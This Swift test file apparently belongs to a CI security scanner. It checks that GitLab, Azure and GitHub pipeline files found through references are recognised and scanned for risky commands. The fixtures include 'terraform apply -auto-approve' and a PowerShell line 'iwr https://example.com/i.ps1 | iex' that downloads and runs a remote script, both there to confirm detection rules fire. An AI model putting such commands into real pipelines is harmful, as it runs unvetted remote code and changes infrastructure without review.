import Foundation
import TestSupport
import Testing

/// Files the entry pipelines name (GitLab includes, Azure templates, GitHub local actions and reusable
/// workflows) and Azure definitions found by their content are CI files wherever they live: protected by the
/// CI path rules and read for their commands.
@Suite("pipeline files wherever they are")
struct PipelineReferenceTests {
    static let apply = "terraform apply -auto-approve"
    static let gitlabJob = "deploy:\n  script:\n    - \(apply)\n"
    static let azureSteps = "steps:\n  - script: \(apply)\n"

    /// The entry file is in the base; the change adds the file it names.
    static func referenced(entry: String, _ entryText: String, file: String, _ text: String) throws -> GateRun.Outcome {
        try GateRun.check(base: [entry: entryText]) { try $0.write(file, text) }
    }

    @Test(
        "a file a GitLab include names is a GitLab CI file",
        arguments: [
            ("include:\n  - local: ci/deploy.yml\n", "ci/deploy.yml"),
            ("include:\n  local: /ci/deploy.yml\n", "ci/deploy.yml"),
            ("include: 'ci/deploy.yml'\n", "ci/deploy.yml"),
            ("include:\n  - ci/build.yml\n  - ci/deploy.yml\n", "ci/deploy.yml"),
            ("include:\n  - local: configs/*.yml\n", "configs/deploy.yml"),
            ("include:\n  - local: 'configs/**/*.yml'\n", "configs/prod/deploy.yml"),
        ])
    func gitlabIncludes(entry: String, file: String) throws {
        let run = try Self.referenced(entry: ".gitlab-ci.yml", entry, file: file, Self.gitlabJob)
        #expect(run.status == 1, "\(run.output)")
        #expect(run.has(rule: "cicd.gitlab", path: file), "\(run.output)")
        #expect(run.has(rule: "commands.terraform-auto-approve", path: file, line: 3), "\(run.output)")
        #expect(run.reason(of: "cicd.gitlab").contains("'.gitlab-ci.yml' line"), "\(run.output)")
    }

    @Test(
        "a file an Azure template reference names is an Azure Pipelines file",
        arguments: [
            ("azure-pipelines.yml", "steps:\n  - template: templates/deploy.yml\n", "templates/deploy.yml"),
            ("azure-pipelines.yml", "jobs:\n  - template: /build/jobs.yml@self\n", "build/jobs.yml"),
            (".azure-pipelines/ci.yml", "stages:\n  - template: ../eng/stages.yml\n", "eng/stages.yml"),
            ("azure-pipelines.yml", "extends:\n  template: pipelines/base.yml\n", "pipelines/base.yml"),
        ])
    func azureTemplates(entry: String, entryText: String, file: String) throws {
        let run = try Self.referenced(entry: entry, entryText, file: file, Self.azureSteps)
        #expect(run.status == 1, "\(run.output)")
        #expect(run.has(rule: "cicd.azure", path: file), "\(run.output)")
        #expect(run.has(rule: "commands.terraform-auto-approve", path: file, line: 2), "\(run.output)")
    }

    @Test("a template of another repository is not a file of this one")
    func azureOtherRepository() throws {
        let run = try Self.referenced(
            entry: "azure-pipelines.yml", "steps:\n  - template: deploy.yml@tools\n", file: "deploy.yml",
            "name: not a template here\n")
        #expect(run.status == 0, "\(run.output)")
    }

    @Test(
        "a local action or reusable workflow a workflow uses is read as GitHub CI",
        arguments: [
            ("./tools/deploy", "tools/deploy/action.yml"),
            ("./tools/deploy", "tools/deploy/action.yaml"),
            ("./ci/release", "ci/release/action.yml"),
        ])
    func githubLocalActions(uses: String, file: String) throws {
        let workflow = "on: push\njobs:\n  d:\n    runs-on: x\n    steps:\n      - uses: \(uses)\n"
        let action = "runs:\n  using: composite\n  steps:\n    - run: \(Self.apply)\n      shell: bash\n"
        let run = try Self.referenced(entry: ".github/workflows/ci.yml", workflow, file: file, action)
        #expect(run.status == 1, "\(run.output)")
        #expect(run.has(rule: "commands.terraform-auto-approve", path: file), "\(run.output)")
    }

    @Test("references are followed from file to file: an include of an include")
    func nestedIncludes() throws {
        let run = try GateRun.check(
            base: [".gitlab-ci.yml": "include: ci/a.yml\n", "ci/a.yml": "include:\n  - local: ci/b.yml\n"]
        ) { try $0.write("ci/b.yml", Self.gitlabJob) }
        #expect(run.status == 1, "\(run.output)")
        #expect(run.has(rule: "cicd.gitlab", path: "ci/b.yml"), "\(run.output)")
        #expect(run.has(rule: "commands.terraform-auto-approve", path: "ci/b.yml"), "\(run.output)")
    }

    @Test("a chain of includes deeper than the bound is a parse finding, not a crash")
    func boundedDepth() throws {
        var base = [".gitlab-ci.yml": "include: ci/0.yml\n"]
        for level in 0..<12 { base["ci/\(level).yml"] = "include: ci/\(level + 1).yml\n" }
        let run = try GateRun.check(base: base) { try $0.write("notes.txt", "x\n") }
        #expect(run.status == 1, "\(run.output)")
        #expect(run.has(rule: "cavra.parse-error"), "\(run.output)")
        #expect(run.reason(of: "cavra.parse-error").contains("not followed"), "\(run.output)")
    }

    @Test("an include cycle ends")
    func includeCycle() throws {
        let run = try GateRun.check(
            base: [".gitlab-ci.yml": "include: ci/a.yml\n", "ci/a.yml": "include: ci/b.yml\n"]
        ) { try $0.write("ci/b.yml", "include: ci/a.yml\n" + Self.gitlabJob) }
        #expect(run.has(rule: "commands.terraform-auto-approve", path: "ci/b.yml"), "\(run.output)")
    }

    @Test(
        "Azure Pipelines YAML is recognised by its content anywhere",
        arguments: [
            "eng/pipelines/build.yml", "build/pipelines/ci.yaml", ".pipelines/release.yml", ".vsts-ci.yml",
        ])
    func azureByContent(path: String) throws {
        let text = "trigger:\n  - main\npool:\n  vmImage: ubuntu-latest\n" + Self.azureSteps
        let run = try GateRun.check(base: [:]) { try $0.write(path, text) }
        #expect(run.status == 1, "\(run.output)")
        #expect(run.has(rule: "cicd.azure", path: path), "\(run.output)")
        #expect(run.has(rule: "commands.terraform-auto-approve", path: path, line: 6), "\(run.output)")
    }

    @Test(
        "Azure shapes of jobs, stages and extends are recognised, other YAML is not",
        arguments: [
            ("jobs:\n  - job: build\n    steps:\n      - bash: \(apply)\n", true),
            ("stages:\n  - stage: deploy\n    jobs:\n      - deployment: prod\n", true),
            ("extends:\n  template: base.yml@templates\n", true),
            // Kubernetes, Compose, a GitLab-like list of stage names, a GitHub-like jobs mapping, Ansible.
            ("apiVersion: v1\nkind: Pod\nspec:\n  containers:\n    - name: x\n      command: [\(apply)]\n", false),
            ("services:\n  web:\n    image: nginx\n    command: \(apply)\n", false),
            ("stages:\n  - build\n  - deploy\nscript: \(apply)\n", false),
            ("jobs:\n  build:\n    steps:\n      - script: \(apply)\n", false),
            ("- hosts: all\n  tasks:\n    - shell: \(apply)\n", false),
            ("steps: 3\nname: recipe\n", false),
        ])
    func azureShapes(text: String, isPipeline: Bool) throws {
        let path = "deploy/config.yml"
        let run = try GateRun.check(base: [:]) { try $0.write(path, text) }
        #expect(run.has(rule: "cicd.azure", path: path) == isPipeline, "\(run.output)")
        if !isPipeline { #expect(run.status == 0, "\(run.output)") }
    }

    @Test("an ordinary workflow with a local setup action raises nothing beyond the CI path rule")
    func ordinaryWorkflow() throws {
        let workflow = """
            on:
              pull_request:
                branches: [main]
            permissions:
              contents: read
            jobs:
              test:
                runs-on: ubuntu-latest
                permissions:
                  contents: read
                  pull-requests: write
                steps:
                  - uses: actions/checkout@0ad4b8fadaa221de15dcec353f45205ec38ea70b
                    with:
                      ref: ${{ github.event.pull_request.head.sha }}
                  - uses: ./.github/actions/setup
                  - run: swift test

            """
        let action = "runs:\n  using: composite\n  steps:\n    - run: swift build\n      shell: bash\n"
        let run = try GateRun.check(base: [:]) {
            try $0.write(".github/workflows/ci.yml", workflow)
            try $0.write(".github/actions/setup/action.yml", action)
        }
        #expect(run.status == 3, "\(run.output)")
        let rules = Set(run.findings.compactMap { $0["rule_id"] as? String })
        #expect(rules == ["cicd.github"], "\(run.output)")
    }

    @Test(
        "an Azure PowerShell task's inline script is read as PowerShell: backticks escape, downloads run by iex count",
        arguments: [
            "  - task: PowerShell@2\n    inputs:\n      targetType: inline\n      script: |\n",
            "  - task: AzurePowerShell@5\n    inputs:\n      ScriptType: InlineScript\n      Inline: |\n",
            "  - task: AzureCLI@2\n    inputs:\n      scriptType: pscore\n      inlineScript: |\n",
            "  - pwsh: |\n",
        ])
    func azurePowerShell(step: String) throws {
        let script =
            "        Write-Host \"Run `\"pwsh`\" to start; it's `n done\" # it's fine\n"
            + "        $dir = \"C:\\tools\\\"\n"
            + "        iwr https://example.com/i.ps1 | iex\n"
        let run = try GateRun.check(base: [:]) { try $0.write("azure-pipelines.yml", "steps:\n" + step + script) }
        #expect(!run.has(rule: "cavra.parse-error"), "\(run.output)")
        #expect(run.has(rule: "commands.remote-script-execution", path: "azure-pipelines.yml"), "\(run.output)")
    }
}
